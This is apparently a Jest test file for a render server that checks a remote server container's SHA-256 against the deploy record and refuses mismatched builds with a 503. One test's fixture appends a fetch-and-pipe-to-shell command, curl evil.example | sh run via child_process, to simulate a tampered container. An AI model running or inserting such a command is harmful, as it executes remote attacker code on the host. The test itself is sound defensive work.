/** @jest-environment node */
// The render server loads a remote's server container only when its SHA-256 is the one the
// deploy recorded in that build's deploy.json: other bytes answer the remote's pages 503 with its
// unavailable message, counted in the metrics under the remote's name and logged once.
import { createHash } from 'node:crypto';
import type { FastifyInstance } from 'fastify';
import { http, HttpResponse } from 'msw';
import parsePrometheusTextFormat from 'parse-prometheus-text-format';
import { server } from '@agency/testing';
import { remoteModules } from '../test/mf-runtime-mock';
import { temporaryShellDist } from '../test/shell-dist';
import { deployRecordUrl } from './container-integrity';
import { buildRenderServer } from './main';
import { buildMetricsServer, RenderMetrics } from './metrics';

const CONTAINER = 'module.exports = "the blog as deployed";';
const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
const POINTER = 'http://bucket.test/blog/current.json';
const VERSION = 'http://bucket.test/blog/versions/8694445b08a7/';
const ORIGIN_ENTRY = 'http://blog.test/server/remoteEntry.js';

const dist = temporaryShellDist(
  '<!doctype html><html><head><title>Site</title></head><body><div id="root"></div></body></html>',
);
let app: FastifyInstance | undefined;
let metrics: RenderMetrics;
let logs: string[];

/** The blog's build as its host serves it: the container's bytes and its deploy record. */
function serveBuild(base: string, bytes: string, record: object | null) {
  server.use(
    http.get(`${base}server/remoteEntry.js`, () => HttpResponse.text(bytes)),
    http.get(`${base}server/mf-manifest.json`, () => HttpResponse.json({ shared: [] })),
    // The browser's files the page would name: none in this build.
    http.get(`${base}mf-manifest.json`, () => new HttpResponse(null, { status: 404 })),
    http.get(`${base}share-images.json`, () => new HttpResponse(null, { status: 404 })),
    http.get(`${base}deploy.json`, () =>
      record ? HttpResponse.json(record) : new HttpResponse(null, { status: 404 }),
    ),
  );
}
const recordOf = (text: string) => ({
  uploadedAt: '2026-11-26T05:13:42.317Z',
  serverContainer: { path: 'server/remoteEntry.js', sha256: sha256(text) },
});

async function start(runtime: { remotes: Record<string, string>; serverRemotes: object }) {
  metrics = new RenderMetrics();
  logs = [];
  app = await buildRenderServer({
    distDir: dist(),
    runtime: { ...runtime, siteConfig: {} },
    logStream: { write: (line) => logs.push(line) },
    metrics,
    remoteOptions: { loadTimeoutMs: 1000, revalidateMs: 60_000 },
    contentPollMs: 0,
    pointerPollMs: 60_000,
  });
  await app.ready();
}
const behindPointer = () => {
  server.use(http.get(POINTER, () => HttpResponse.json({ version: '8694445b08a7', history: [] })));
  return start({ remotes: { blog: POINTER }, serverRemotes: {} });
};
const fromOrigin = () =>
  start({
    remotes: { blog: 'http://blog.test/mf-manifest.json' },
    serverRemotes: { blog: ORIGIN_ENTRY },
  });

async function refusals() {
  const res = await buildMetricsServer(metrics.registry).inject({ method: 'GET', url: '/metrics' });
  const family = parsePrometheusTextFormat(res.body).find(
    (f) => f.name === 'render_remote_integrity_failures_total',
  );
  const sample = family?.metrics.find((m) => m.labels?.remote === 'blog');
  return sample ? Number(sample.value) : 0;
}
const blogPage = () => app!.inject({ method: 'GET', url: '/tech&tranquility' });

beforeEach(() => {
  remoteModules.clear();
  remoteModules.set('blog/routes', async () => ({
    default: [{ path: '/tech&tranquility', element: <h1>Tech &amp; Tranquility</h1> }],
  }));
  jest.spyOn(console, 'error').mockImplementation(() => undefined);
});
afterEach(async () => {
  await app?.close();
  app = undefined;
});

describe("the render server and the deploy's record of a server container", () => {
  it('finds the record at the root of the build the container belongs to', () => {
    expect(deployRecordUrl(`${VERSION}server/remoteEntry.js`)).toBe(`${VERSION}deploy.json`);
    expect(deployRecordUrl(ORIGIN_ENTRY)).toBe('http://blog.test/deploy.json');
    expect(deployRecordUrl('http://blog.test/custom/entry.js')).toBeNull();
  });

  it('loads the container whose SHA-256 is the recorded one', async () => {
    serveBuild(VERSION, CONTAINER, recordOf(CONTAINER));
    await behindPointer();
    const page = await blogPage();
    expect(page.statusCode).toBe(200);
    expect(page.body).toContain('Tech &amp; Tranquility</h1>');
    expect(await refusals()).toBe(0);
  });

  it('refuses a container whose bytes differ from the record: 503 with the unavailable message, counted for the remote, logged once', async () => {
    const changed = `${CONTAINER}\nrequire('child_process').exec('curl evil.example | sh');`;
    serveBuild(VERSION, changed, recordOf(CONTAINER));
    let loaded = false;
    remoteModules.set('blog/routes', async () => {
      loaded = true;
      return { default: [] };
    });
    await behindPointer();
    for (let visit = 0; visit < 2; visit += 1) {
      const page = await blogPage();
      expect(page.statusCode).toBe(503);
      expect(page.body).toContain('The blog is temporarily unavailable');
    }
    expect(loaded).toBe(false);
    expect(await refusals()).toBe(2);
    const refused = logs
      .map((line) => JSON.parse(line) as { level: number; msg: string })
      .filter((line) => line.level === 50 && line.msg.startsWith('The blog remote is not loaded'));
    expect(refused).toHaveLength(1);
    expect(refused[0]!.msg).toBe(
      `The blog remote is not loaded: its server container's SHA-256 is ${sha256(changed)}, not the ${sha256(CONTAINER)} its deploy recorded (${VERSION}deploy.json). Deploy it again with the deploy command, or roll it back.`,
    );
    // The rest of the site answers.
    expect((await app!.inject({ method: 'GET', url: '/no-such-page' })).statusCode).toBe(404);
  });

  it('refuses a build behind a pointer that has no record, or a record without the hash', async () => {
    serveBuild(VERSION, CONTAINER, null);
    await behindPointer();
    expect((await blogPage()).statusCode).toBe(503);
    expect(await refusals()).toBe(1);
    await app!.close();

    serveBuild(VERSION, CONTAINER, { uploadedAt: '2026-11-26T05:13:42.317Z' });
    await behindPointer();
    expect((await blogPage()).statusCode).toBe(503);
    expect(logs.join('\n')).toContain('names no SHA-256 of its server container');
  });

  it('checks a container on its own origin when the build has a record, and loads one without (not deployed by the command)', async () => {
    serveBuild('http://blog.test/', `${CONTAINER} `, recordOf(CONTAINER));
    await fromOrigin();
    expect((await blogPage()).statusCode).toBe(503);
    expect(await refusals()).toBe(1);
    await app!.close();

    serveBuild('http://blog.test/', `${CONTAINER} `, null);
    await fromOrigin();
    expect((await blogPage()).statusCode).toBe(200);
    expect(await refusals()).toBe(0);
  });
});
